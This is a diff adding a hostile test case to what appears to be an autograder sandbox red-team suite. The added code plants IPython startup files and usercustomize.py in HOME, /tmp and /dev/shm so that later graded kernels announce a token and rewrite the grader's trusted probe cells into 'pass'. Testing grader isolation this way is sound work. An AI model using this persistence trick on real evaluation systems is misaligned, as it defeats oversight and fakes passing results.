@@ -598,6 +598,36 @@ _add("fs_symlink_to_solutions", "filesystem", "release", hostile=True,
         print("no linked gradebook:", type(_exc).__name__)
 ''')))
 
+_add("aa_fs_plant_for_later_kernels", "filesystem", "release", hostile=True,
+     note="files left in /tmp, HOME and /dev/shm for the kernels graded after this one (IPython startup files)",
+     append={"log_likelihood_matrix": SANDBOX_GUARD + _c('''
+    # every later kernel that starts with this HOME or /tmp runs my startup file: it announces itself
+    # in every cell and turns the trusted probes into `pass`
+    import os
+    _rt_startup = (
+        "import sys\\n"
+        "def _rt_cross(info):\\n"
+        "    print('RT-CROSS-@TOKEN@ in', __import__('os').getcwd())\\n"
+        "try:\\n"
+        "    _ip = get_ipython()\\n"
+        "    _ip.events.register('pre_run_cell', _rt_cross)\\n"
+        "    _ip.input_transformers_post.append(\\n"
+        "        lambda lines: ['pass\\\\n'] if '__mixlearn_probe' in ''.join(lines) else lines)\\n"
+        "except Exception:\\n"
+        "    pass\\n")
+    if _rt_confined():
+        for _home in {os.path.expanduser("~"), "/tmp", "/dev/shm", os.environ.get("IPYTHONDIR", "/tmp")}:
+            for _sub in (".ipython/profile_default/startup", "profile_default/startup", ".local/lib/python3.11/site-packages"):
+                try:
+                    _d = os.path.join(_home, _sub)
+                    os.makedirs(_d, exist_ok=True)
+                    _name = "usercustomize.py" if "site-packages" in _sub else "00-rt.py"
+                    with open(os.path.join(_d, _name), "w") as fh:
+                        fh.write(_rt_startup)
+                except OSError:
+                    pass
+''')})
+
 # ----- submitted files that shadow the kernel's modules -----------------------------------------
 _add("shadow_ipykernel_launcher", "shadow", "partial", files={"ipykernel_launcher.py": _c('''
     # python -m ipykernel_launcher runs this file when the notebook's folder comes first on sys.path
